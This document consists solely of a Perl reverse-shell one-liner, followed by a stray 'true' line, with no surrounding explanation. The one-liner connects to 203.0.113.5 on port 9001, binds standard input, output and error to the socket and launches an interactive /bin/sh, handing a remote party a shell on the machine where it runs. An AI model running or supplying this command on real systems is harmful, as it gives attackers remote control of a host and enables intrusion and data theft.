perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")||6);connect(S,sockaddr_in(9001,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
true
